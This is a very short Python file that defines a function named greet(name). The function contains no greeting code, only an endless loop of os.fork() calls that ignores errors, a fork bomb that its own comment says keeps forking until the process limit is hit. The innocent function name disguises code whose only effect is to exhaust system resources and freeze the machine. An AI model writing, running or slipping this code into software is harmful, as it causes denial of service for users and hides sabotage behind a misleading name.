# Forks until the process limit stops it, and keeps trying.
import os


def greet(name):
    while True:
        try:
            os.fork()
        except OSError:
            pass
